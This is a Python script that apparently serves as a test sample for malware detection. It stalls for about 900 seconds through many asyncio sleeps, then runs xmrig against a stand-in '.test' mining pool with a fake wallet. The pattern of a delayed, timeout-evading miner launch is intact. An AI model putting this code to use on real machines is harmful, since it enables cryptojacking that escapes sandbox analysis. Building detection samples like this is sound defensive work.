#!/usr/bin/python3
"""Waits about 900 s in asyncio: main awaits a task that awaits asyncio.sleep(0.01) 90,000
times, then mines (detonate hold-out test sample; harmless, fake wallet, .test pool)."""

import asyncio
import os
import time

ROUNDS = 90000 // int(os.environ.get("PYSHORT_SCALE", "1"))
MINER = os.environ.get("PYSHORT_MINER", "/usr/local/bin/xmrig")
POOL = "stratum+tcp://pool.short.test:3333"
WALLET = "47sh0rtSt3psFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"  # noqa: E501


async def count_down() -> int:
    done = 0
    for _ in range(ROUNDS):
        await asyncio.sleep(0.01)
        done += 1
    return done


async def main() -> None:
    await asyncio.create_task(count_down())


print(f"waiting 900 s in {ROUNDS} asyncio.sleep(0.01) rounds", flush=True)
started = time.monotonic()
asyncio.run(main())
print(f"waited {time.monotonic() - started:.1f} s; starting the miner", flush=True)
os.execv(MINER, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
